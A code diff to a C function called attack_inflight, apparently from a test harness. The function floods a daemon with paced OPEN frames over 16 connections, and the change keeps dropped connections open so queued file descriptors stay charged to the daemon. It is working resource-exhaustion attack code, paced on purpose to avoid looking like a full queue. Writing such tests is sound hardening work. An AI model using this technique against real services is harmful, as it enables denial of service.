@@ -408,7 +408,7 @@ static int attack_inflight(void)
         struct iomem_region *region = NULL;
         struct proto_open o = { .name = "inflight" };
         uint8_t p[512], f[600];
-        int socks[16], r, len;
+        int socks[16], dead[16], r, len;
         unsigned sent = 0, dropped = 0;
 
         r = iomem_create(c, "inflight", 4096, &co, &region);
@@ -416,15 +416,21 @@ static int attack_inflight(void)
                 die("create", r);
         iomem_region_free(region);
         len = proto_open_encode(&o, p, sizeof(p));
-        for (int i = 0; i < 16; i++)
+        for (int i = 0; i < 16; i++) {
                 socks[i] = raw_connect_hello();
+                dead[i] = -1;
+        }
         /* paced: a few OPENs per connection at a time, so the daemon's own queue never looks full */
         for (int round = 0; round < 200; round++) {
                 for (int i = 0; i < 16; i++) {
                         for (int k = 0; k < 4 && socks[i] >= 0; k++) {
                                 r = send_frame(socks[i], f, frame(f, PROTO_OP_OPEN, 10 + sent, p, len, 0), NULL, 0);
-                                if (r < 0) { /* the daemon dropped this connection */
-                                        close(socks[i]);
+                                if (r < 0) {
+                                        /*
+                                         * The daemon dropped this connection; keep our end open: the
+                                         * fds queued to it stay in flight, charged to the daemon.
+                                         */
+                                        dead[i] = socks[i];
                                         socks[i] = -1;
                                         dropped++;
                                         break;
@@ -437,9 +443,12 @@ static int attack_inflight(void)
         sleep_ms(500);
         ready("opens_sent=%u dropped=%u", sent, dropped);
         wait_stdin_eof();
-        for (int i = 0; i < 16; i++)
+        for (int i = 0; i < 16; i++) {
                 if (socks[i] >= 0)
                         close(socks[i]);
+                if (dead[i] >= 0)
+                        close(dead[i]);
+        }
         iomem_disconnect(c);
         return 0;
 }
